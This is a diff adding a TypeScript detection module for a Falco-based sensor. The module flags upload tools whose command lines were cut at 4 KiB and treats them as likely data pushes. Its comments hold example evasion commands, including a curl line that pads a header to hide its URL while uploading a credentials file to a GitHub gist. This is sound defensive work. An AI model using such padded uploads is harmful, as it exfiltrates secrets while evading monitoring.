@@ -1,0 +1,68 @@
+/**
+ * Recognition of a table tool whose argv the sensor cut before it decided anything (./recognize.ts calls it
+ * last, when neither a push nor a download was seen in the words left).
+ */
+import { type ParsedArgv, parseArgv } from './argv.js';
+import { isUnexpectedLocation } from './locations.js';
+import type { ProcessView, PushRecognition } from './recognize.js';
+import type { PushToolSpec } from './types.js';
+
+/**
+ * Table tools whose command line the sensor cut (Falco keeps 4 KiB of argv) before it said push or download:
+ * `curl -H "X-Pad: <4 KiB>" -T creds https://api.github.com/gists` loses its URL, `gh -R <long> release upload`
+ * its sub-command. The cut-off words are gone, so such a run is taken for a push whose destination is its first
+ * connection (judge.ts: only once it connected somewhere, and a generic uploader only to a classed destination).
+ * Not the shapes whose argv is no tool's own words (an interpreter's script, a shell's `-c`, a transport
+ * helper), nor a sub-command seen whole that is none of the tool's pushes (`git commit -m <4 KiB>`).
+ */
+const CUT_ARGV_KINDS: ReadonlySet<string> = new Set(['subcommand', 'upload', 'url-commit']);
+
+export function cutArgvPush(
+  candidates: readonly PushToolSpec[],
+  name: string,
+  words: string[],
+  view: ProcessView,
+  keyFiles: readonly string[],
+): PushRecognition | null {
+  for (const spec of candidates) {
+    if (!CUT_ARGV_KINDS.has(spec.match.kind)) continue;
+    if (visiblyAnotherCommand(spec, parseArgv(words, spec.syntax))) continue;
+    return {
+      kind: 'push',
+      spec,
+      tool: spec.tool,
+      remote: null,
+      destinationHost: null,
+      destinationDefault: false,
+      renamed: spec.usualBinaries !== undefined && !spec.usualBinaries.includes(name),
+      unexpectedLocation: isUnexpectedLocation(view.binary),
+      stdin: false,
+      declaredIn: null,
+      keyFiles,
+      argvCut: true,
+    };
+  }
+  return null;
+}
+
+/**
+ * A sub-command tool whose sure sub-command word (the first positional not possibly a flag's value) is seen
+ * whole and starts none of its pushes. The last word may be cut mid-word (`pu` of `push`), so it decides nothing.
+ */
+function visiblyAnotherCommand(spec: PushToolSpec, parsed: ParsedArgv): boolean {
+  const m = spec.match;
+  if (m.kind !== 'subcommand') return false;
+  const firsts = new Set<string>();
+  for (const cmd of m.commands) {
+    const w = cmd.words[0];
+    if (w === undefined || w === '*') return false;
+    firsts.add(w);
+  }
+  const last = parsed.positionals.length - 1;
+  for (let i = 0; i < last; i++) {
+    const p = parsed.positionals[i]!;
+    if (firsts.has(p)) return false;
+    if (!parsed.afterFlag.has(i)) return true;
+  }
+  return false;
+}
